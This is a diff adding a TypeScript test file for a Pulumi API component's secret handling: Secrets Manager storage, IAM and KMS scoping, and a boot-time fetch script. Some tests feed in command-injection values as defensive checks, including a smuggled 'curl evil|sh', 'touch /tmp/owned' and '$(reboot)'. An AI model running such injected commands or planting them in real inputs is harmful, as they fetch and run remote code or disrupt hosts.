@@ -1,0 +1,145 @@
+// The API host's APP_IDENTITY_SECRET: a Secrets Manager secret under the stack CMK, readable by the instance
+// role only, fetched at boot into a 0600 environment file; never in user data or an output in clear.
+import { strict as assert } from "node:assert";
+import { spawnSync } from "node:child_process";
+import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { Api, ApiArgs, apiUserData, identitySecretFetchScript } from "../../components/api";
+import { identitySecretFromEnv } from "../../lib/crypto";
+import { resolve, runUnderMocks } from "../../plan/mocks";
+import { PlannedResource } from "../../plan/types";
+import { isAllowed } from "../support/iam-eval";
+
+const DATA_KEY = "arn:aws:kms:ap-northeast-1:123456789012:key/44444444-4444-4444-8444-444444444444";
+const DB_SECRET = "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:rds!db-0123abcd";
+const OTHER_SECRET = "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:someone-else-AbCdEf";
+const SECRET_ARN = "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:appi-test/api/app-identity-secret-AbCdEf";
+
+function args(): ApiArgs {
+    return {
+        namePrefix: "appi-test",
+        instanceType: "t3.small",
+        subnetId: "subnet-public-a",
+        securityGroupId: "sg-api",
+        vpcCidr: "10.0.0.0/16",
+        ingressCidrs: ["203.0.113.0/24"],
+        rootVolumeKeyArn: DATA_KEY,
+        databaseSecretArn: DB_SECRET,
+        secretKeyArn: DATA_KEY,
+        identitySecretKeyArn: DATA_KEY,
+        tags: { Project: "appi-infra" },
+    };
+}
+
+// @pulumi/pulumi's marker of a secret value in serialized properties (runtime/rpc.ts specialSigKey / specialSecretSig).
+const SECRET_SIG = "4dabf18193072939515e22adb298388d";
+const SECRET_SIG_VALUE = "1b47061264138c4ac30d75fd1eb44270";
+
+const ofType = (resources: PlannedResource[], type: string) => resources.filter((r) => r.type === type);
+
+describe("Api component: APP_IDENTITY_SECRET delivery", function () {
+    let resources: PlannedResource[];
+    let outputs: Record<string, unknown>;
+
+    before(async function () {
+        const run = await runUnderMocks(async () => {
+            const api = new Api("api", args());
+            return {
+                outputs: { publicIp: await resolve(api.publicIp), instanceId: await resolve(api.instanceId), roleArn: await resolve(api.roleArn), identitySecretArn: await resolve(api.identitySecretArn) },
+                urn: await resolve(api.urn),
+            };
+        });
+        resources = run.resources;
+        outputs = run.value.outputs;
+    });
+
+    const secret = () => ofType(resources, "aws:secretsmanager/secret:Secret")[0];
+    const value = () => String(ofType(resources, "random:index/randomPassword:RandomPassword")[0].state.result);
+
+    it("stores a generated value that is a valid APP_IDENTITY_SECRET, under the stack CMK", function () {
+        assert.equal(ofType(resources, "aws:secretsmanager/secret:Secret").length, 1);
+        assert.equal(secret().state.kmsKeyId, DATA_KEY, "encrypted with the stack CMK, not aws/secretsmanager");
+        const version = ofType(resources, "aws:secretsmanager/secretVersion:SecretVersion")[0];
+        assert.equal(version.state.secretId, secret().id);
+        // Recorded as a Pulumi secret (the engine's secret signature), so state and previews never show it.
+        assert.deepEqual(version.state.secretString, { [SECRET_SIG]: SECRET_SIG_VALUE, value: value() });
+        assert.equal(identitySecretFromEnv({ APP_IDENTITY_SECRET: value() }).length, 48);
+    });
+
+    it("lets the instance role read that secret only, and decrypt only through Secrets Manager for it", function () {
+        const policies = ofType(resources, "aws:iam/rolePolicy:RolePolicy").map((p) => JSON.parse(String(p.state.policy)));
+        const all = { Statement: policies.flatMap((p) => p.Statement) };
+        const arn = String(secret().state.arn);
+        assert.ok(isAllowed(all, "secretsmanager:GetSecretValue", arn));
+        assert.ok(!isAllowed(all, "secretsmanager:GetSecretValue", OTHER_SECRET), "another secret");
+        assert.ok(!isAllowed(all, "secretsmanager:PutSecretValue", arn), "the host cannot change it");
+        const identityPolicy = policies.find((p) => p.Statement.some((s: { Sid: string }) => s.Sid === "ReadIdentitySecret"));
+        const context = { "kms:ViaService": "secretsmanager.ap-northeast-1.amazonaws.com", "kms:EncryptionContext:SecretARN": arn };
+        assert.ok(isAllowed(identityPolicy, "kms:Decrypt", DATA_KEY, context));
+        assert.ok(!isAllowed(identityPolicy, "kms:Decrypt", DATA_KEY, { "kms:EncryptionContext:SecretARN": arn }), "direct Decrypt, not via Secrets Manager");
+        assert.ok(!isAllowed(identityPolicy, "kms:Decrypt", DATA_KEY, { ...context, "kms:EncryptionContext:SecretARN": OTHER_SECRET }), "another secret's ciphertext");
+    });
+
+    it("puts the secret's ARN in user data, never its value; no output carries the value", function () {
+        const instance = ofType(resources, "aws:ec2/instance:Instance")[0];
+        const userData = String(instance.state.userData);
+        assert.ok(userData.includes(String(secret().state.arn)));
+        assert.ok(!userData.includes(value()), "the value is in user data");
+        assert.ok(!/set -x|xtrace/.test(userData), "tracing would log the value");
+        assert.ok(!JSON.stringify(outputs).includes(value()), "an output carries the value");
+        assert.equal(outputs.identitySecretArn, secret().state.arn);
+    });
+});
+
+describe("Api host: the boot-time fetch script", function () {
+    let dir: string;
+    beforeEach(function () {
+        dir = mkdtempSync(path.join(tmpdir(), "appi-api-env-"));
+    });
+    afterEach(function () {
+        rmSync(dir, { recursive: true, force: true });
+    });
+
+    /** Runs the script with a fake `aws` printing `value` (or failing), writing to dir/etc/api.env. */
+    function fetch(value: string | null) {
+        const fakeAws = path.join(dir, "aws");
+        writeFileSync(
+            fakeAws,
+            value === null
+                ? "#!/bin/bash\necho 'AccessDeniedException' >&2\nexit 255\n"
+                : `#!/bin/bash\n[ "$*" = "secretsmanager get-secret-value --region ap-northeast-1 --secret-id ${SECRET_ARN} --query SecretString --output text" ] || { echo "unexpected: $*" >&2; exit 9; }\nprintf '%s\\n' '${value}'\n`,
+        );
+        chmodSync(fakeAws, 0o755);
+        const script = path.join(dir, "fetch.sh");
+        writeFileSync(script, identitySecretFetchScript(SECRET_ARN));
+        const envFile = path.join(dir, "etc", "api.env");
+        const r = spawnSync("bash", [script], { env: { PATH: process.env.PATH, AWS_CLI: fakeAws, APPI_ENV_FILE: envFile }, encoding: "utf8" });
+        return { ...r, envFile };
+    }
+
+    it("writes APP_IDENTITY_SECRET into a 0600 environment file, and says nothing of it", function () {
+        const secret = "A".repeat(22) + "b9".repeat(21);
+        const r = fetch(secret);
+        assert.equal(r.status, 0, r.stderr);
+        assert.equal(readFileSync(r.envFile, "utf8"), `APP_IDENTITY_SECRET=${secret}\n`);
+        assert.equal(statSync(r.envFile).mode & 0o777, 0o600);
+        assert.ok(!r.stdout.includes(secret) && !r.stderr.includes(secret), "the value was printed");
+    });
+
+    it("leaves no file when the secret cannot be read or is not a valid secret", function () {
+        const denied = fetch(null);
+        assert.notEqual(denied.status, 0);
+        assert.ok(!existsSync(denied.envFile));
+        const bad = fetch("x; touch /tmp/owned");
+        assert.equal(bad.status, 1);
+        assert.match(bad.stderr, /not base64 of 32-64 bytes/);
+        assert.ok(!existsSync(bad.envFile));
+    });
+
+    it("accepts only a Secrets Manager ARN (no shell text reaches the script)", function () {
+        assert.throws(() => identitySecretFetchScript("arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:x'; curl evil|sh; '"), /not a Secrets Manager secret ARN/);
+        assert.throws(() => apiUserData("$(reboot)"), /not a Secrets Manager secret ARN/);
+        assert.match(apiUserData(SECRET_ARN), /systemctl enable --now appi-identity-secret\.service/);
+    });
+});
